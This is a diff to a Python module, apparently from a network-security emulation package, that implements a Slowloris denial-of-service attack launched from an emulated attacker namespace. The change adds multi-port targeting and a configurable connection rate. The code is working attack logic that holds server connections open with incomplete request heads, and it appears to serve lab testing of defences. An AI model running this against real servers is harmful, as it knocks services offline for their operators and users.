@@ -1,11 +1,12 @@
 """A real Slowloris (`002_…` Section IV), started in an attacker namespace.
 
-It opens `count` connections to the server from the attackers' addresses (at most
-`OPEN_RATE` new ones a second), sends each an incomplete request head, and keeps each
-open by sending one more header line every `interval` seconds, never the blank line
-that ends the head; a connection the server closes is opened again.
+It opens `count` connections to the server's ports, in turn, from the attackers'
+addresses (`rate` new ones a second, `OPEN_RATE` unless given), sends each an
+incomplete request head, and keeps each open by sending one more header line every
+`interval` seconds, never the blank line that ends the head; a connection the server
+closes is opened again.
 
-    python -m secmas.network.emulation.slowloris DST PORT COUNT INTERVAL SRC[,SRC…]
+    python -m secmas.network.emulation.slowloris DST PORT[,PORT…] COUNT INTERVAL SRC[,SRC…] [RATE]
 """
 
 from __future__ import annotations
@@ -40,23 +41,32 @@ async def hold(dst: str, port: int, src: str, interval: float, rng: random.Rando
                 writer.close()
 
 
-async def slowloris(dst: str, port: int, count: int, interval: float, sources: list[str]) -> None:
+async def slowloris(
+    dst: str,
+    ports: list[int],
+    count: int,
+    interval: float,
+    sources: list[str],
+    rate: float = OPEN_RATE,
+) -> None:
     rng = random.Random()
     tasks = []
     for index in range(count):
-        source = sources[index % len(sources)]
+        source, port = sources[index % len(sources)], ports[index % len(ports)]
         tasks.append(asyncio.ensure_future(hold(dst, port, source, interval, rng)))
-        await asyncio.sleep(1.0 / OPEN_RATE)
+        await asyncio.sleep(1.0 / rate)
     await asyncio.gather(*tasks)
 
 
 def main(argv: list[str]) -> int:
-    if len(argv) != 5:
+    if len(argv) not in (5, 6):
         print(__doc__, file=sys.stderr)
         return 2
-    dst, port, count, interval = argv[0], int(argv[1]), int(argv[2]), float(argv[3])
+    dst, count, interval = argv[0], int(argv[2]), float(argv[3])
+    ports = [int(port) for port in argv[1].split(",")]
+    rate = float(argv[5]) if len(argv) == 6 else OPEN_RATE
     with contextlib.suppress(KeyboardInterrupt):
-        asyncio.run(slowloris(dst, port, count, interval, argv[4].split(",")))
+        asyncio.run(slowloris(dst, ports, count, interval, argv[4].split(","), rate))
     return 0
 
 
